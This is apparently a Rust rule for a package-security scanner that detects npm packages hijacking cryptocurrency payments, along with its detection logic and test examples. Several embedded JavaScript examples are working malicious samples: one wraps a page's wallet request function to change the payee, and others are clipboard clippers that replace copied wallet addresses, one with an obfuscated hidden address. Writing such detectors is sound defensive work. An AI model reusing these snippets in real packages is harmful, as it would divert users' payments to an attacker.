//! Functions of a wallet, or all requests of a page, are replaced; or what was copied is.

use super::judge::{self, ByTrigger};
use super::{Context, Declaration, Example, Finding};
use crate::api::targets;
use crate::behaviours::Behaviour;
use crate::model::{FileId, Severity, SurfaceKind};
use crate::source::decode;

pub(super) static FINDING: Declaration = Declaration {
    id: "wallet-interception",
    title: "Stands between the page and its wallet",
    severity: Severity::Critical,
    summary: "As soon as it is loaded, the package replaces functions of the page's wallet, or it replaces the functions for requests and uses a wallet in the same file. It can then change who is paid after the user has agreed. Or it reads the clipboard and writes it again, and holds the address of a wallet: an address that somebody copied to pay to is pasted as another one.",
    advice: "Don't use it in a page that people pay with. Look at every build of your page since it came in.",
    benign_when: "The package is a wallet, or a test tool that stands in for one.",
    references: &["CWE-506", "T1056.004", "T1185", "T1565.002"],
    examples: &[
        Example {
            name: "the request function of the wallet is wrapped on load",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"if (typeof window !== "undefined" && window.ethereum) {
  const old = window.ethereum.request;
  window.ethereum.request = (a) => { if (a.params) a.params[0].to = "0x0"; return old(a); };
}"#,
                ),
            ],
        },
        Example {
            name: "an address that was copied becomes another one",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","bin":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process");
setInterval(() => {
  const text = execSync("pbpaste").toString();
  const next = text.replace(/0x[a-fA-F0-9]{40}/, "0x00000000000000000000000000000000000f1c0d");
  if (next !== text) execSync("pbcopy", { input: next });
}, 700);"#,
                ),
            ],
        },
        Example {
            name: "an address that was copied becomes one that is kept as shifted letters",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process");
const plain = (list) => list.map((n) => String.fromCharCode(n - 3)).join("");
const FORMS = [{ shape: /^0x[0-9a-fA-F]{40}$/, own: [51, 123, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71] }];
const tidy = (text) => { for (const form of FORMS) if (form.shape.test(text)) return plain(form.own); return text; };
exports.keep = () => setInterval(() => {
  const text = execSync("pbpaste").toString();
  const next = tidy(text.trim());
  if (next !== text) execSync("pbcopy", { input: next });
}, 700);"#,
                ),
            ],
        },
        Example {
            name: "what is copied from a page becomes another address",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"document.addEventListener("copy", (event) => {
  const next = String(getSelection()).replace(/0x[a-fA-F0-9]{40}/, "0x00000000000000000000000000000000000f1c0d");
  event.clipboardData.setData("text/plain", next);
});"#,
                ),
            ],
        },
        Example {
            name: "a clipboard tool",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process");
exports.read = () => execSync("pbpaste").toString();
exports.write = (text) => execSync("pbcopy", { input: text });"#,
                ),
            ],
        },
        Example {
            name: "an application asks the wallet for accounts",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.connect = () => window.ethereum.request({ method: "eth_requestAccounts" });"#,
                ),
            ],
        },
        Example {
            name: "a function that a page calls sends what is paid to addresses of its own",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const pool = ["0x1111111111111111111111111111111111111111", "0x2222222222222222222222222222222222222222"];
exports.ready = () => {
  const wallet = window.ethereum;
  const request = wallet.request.bind(wallet);
  wallet.request = (call) => request({ method: call.method, params: call.params.map((one) => ({ ...one, to: pool[0] })) });
};"#,
                ),
            ],
        },
        Example {
            name: "a polyfill for requests",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const old = window.fetch; window.fetch = (...args) => { console.log(args[0]); return old(...args); };"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::Low,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let wallets: Vec<&Behaviour> = context
        .behaviours
        .iter()
        .filter(|one| one.what.id == "wallet.provider")
        .collect();
    for behaviour in context.behaviours {
        let is_unasked = behaviour.reach.loads_on(SurfaceKind::Import);
        let replaces = behaviour.target.as_deref() == Some("replace");
        let is_asked = !behaviour.reach.is_dormant() && replaces && holds_address(context);
        if !is_unasked && !is_asked {
            continue;
        }
        let message = match (behaviour.what.id, behaviour.target.as_deref()) {
            ("wallet.provider", Some("replace")) => "replaces functions of the page's wallet",
            ("module.hook", Some("network")) if beside(behaviour, &wallets) => {
                "replaces the page's functions for requests beside its use of a wallet"
            }
            _ => continue,
        };
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message.to_owned());
        let at_most = if is_asked { SWAP_AT_MOST } else { AT_MOST };
        judge::by_trigger(at_most, &mut finding);
        found.push(finding);
    }
    found.extend(swap(context));
}

/// The clipboard is read and written, and there is an address to put there.
fn swap(context: &Context<'_>) -> Option<Finding> {
    let of = |id: &'static str| {
        let all = context
            .behaviours
            .iter()
            .filter(move |one| one.what.id == id);
        all.filter(|one| !one.reach.is_dormant())
    };
    // What a page's listener puts in the place of a selection it has read before.
    let replaces = |one: &&Behaviour| one.target.as_deref() == Some("selection");
    let swapped = of("clipboard.write").find(replaces);
    if swapped.is_none() {
        of("clipboard.read").next()?;
    }
    let mut writes = of("clipboard.write");
    let first = writes.next()?;
    if !holds_address(context) {
        return None;
    }
    let message = match swapped {
        Some(_) => "changes what is copied from a page, and holds addresses of wallets",
        None => "reads the clipboard and writes it again, and holds addresses of wallets",
    };
    let mut finding = Finding::of_behaviour(&FINDING, first, message.to_owned());
    for other in writes {
        finding.reach.join(other.reach);
        finding.evidence.extend(other.sites.iter().copied());
    }
    finding.evidence.sort_unstable();
    finding.evidence.dedup();
    judge::by_trigger(SWAP_AT_MOST, &mut finding);
    Some(finding)
}

/// Whether a file of code or data of the package holds the address of a wallet.
fn holds_address(context: &Context<'_>) -> bool {
    let mut behaviours = context.behaviours.iter();
    if behaviours.any(|one| one.what.id == "wallet.hidden-address") {
        return true;
    }
    let is_text = |path: &str| {
        let name = path.rsplit('/').next().unwrap_or(path);
        matches!(
            name.rsplit_once('.'),
            Some((_, "js" | "cjs" | "mjs" | "ts" | "json")) | None
        )
    };
    let mut left = MOST_TEXT;
    let mut files = context.archive.entries.iter().zip(0..);
    files.any(|(entry, at)| {
        let bytes = context.archive.bytes(FileId(at));
        if !is_text(&entry.path) || bytes.len() > left {
            return false;
        }
        left -= bytes.len();
        let text = decode(bytes).text;
        targets::token_shapes(&text).any(|shape| shape.id == "wallet.address")
    })
}

const SWAP_AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::High,
};

/// Bytes that are searched for addresses.
const MOST_TEXT: usize = 4 << 20;

/// Whether a wallet is used in the same file as soon as it is loaded.
fn beside(behaviour: &Behaviour, wallets: &[&Behaviour]) -> bool {
    wallets.iter().any(|wallet| {
        wallet
            .target
            .as_deref()
            .is_some_and(|one| one == "ethereum" || one == "wallet")
            && wallet.reach.loads_on(SurfaceKind::Import)
            && wallet
                .sites
                .iter()
                .any(|a| behaviour.sites.iter().any(|b| a.file == b.file))
    })
}
